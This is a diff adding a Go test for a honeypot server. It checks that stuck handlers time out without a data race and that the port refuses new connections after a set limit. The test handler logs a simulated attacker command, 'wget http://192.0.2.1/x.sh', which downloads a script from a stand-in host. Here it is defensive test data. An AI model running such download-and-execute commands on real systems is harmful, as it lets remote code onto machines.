@@ -0,0 +1,82 @@
+package honeypot
+
+import (
+	"context"
+	"net"
+	"testing"
+	"time"
+)
+
+// TestAbandonedHandlers checks that sessions of abandoned handlers end
+// without sharing their ConnMeta, which go test -race reports, and that a
+// port refuses connections once maxAbandonedHandlers of them are running.
+func TestAbandonedHandlers(t *testing.T) {
+	release := make(chan struct{})
+	defer close(release)
+	RegisterHandler("test-stuck", HandlerFunc(func(ctx context.Context, conn net.Conn, meta *ConnMeta) error {
+		for {
+			meta.Observe("wget http://192.0.2.1/x.sh")
+			conn.Write([]byte("$ "))
+			select {
+			case <-release:
+				return nil
+			case <-time.After(10 * time.Millisecond):
+			}
+		}
+	}))
+
+	srv := NewServer(maxAbandonedHandlers + 1)
+	limits := DefaultSessionLimits()
+	limits.HandlerTimeout = 100 * time.Millisecond
+	srv.Ports["23"] = &PortOptions{Handler: "test-stuck", Limits: &limits}
+	events := make(eventRecorder, 256)
+	srv.AddOutput(events)
+	defer srv.Shutdown()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	go srv.NewListener(ln, "23").Serve()
+
+	dial := func() {
+		conn, err := net.Dial("tcp", ln.Addr().String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { conn.Close() })
+	}
+	for i := 0; i < maxAbandonedHandlers; i++ {
+		dial()
+	}
+	timeout := time.After(handlerGrace + 5*time.Second)
+	for ended := 0; ended < maxAbandonedHandlers; {
+		select {
+		case ev := <-events:
+			if ev.Type != EventSessionEnd {
+				continue
+			}
+			if ev.Fields["stage"] != StagePostExploit.String() {
+				t.Fatalf("abandoned session ended at stage %v, want %s", ev.Fields["stage"], StagePostExploit)
+			}
+			ended++
+		case <-timeout:
+			t.Fatal("abandoned sessions did not end")
+		}
+	}
+
+	dial()
+	for {
+		select {
+		case ev := <-events:
+			if ev.Type != EventConnection {
+				continue
+			}
+			if ev.Fields["refused"] != true {
+				t.Fatalf("connection served with %d abandoned handlers on the port", maxAbandonedHandlers)
+			}
+			return
+		case <-timeout:
+			t.Fatal("no connection event")
+		}
+	}
+}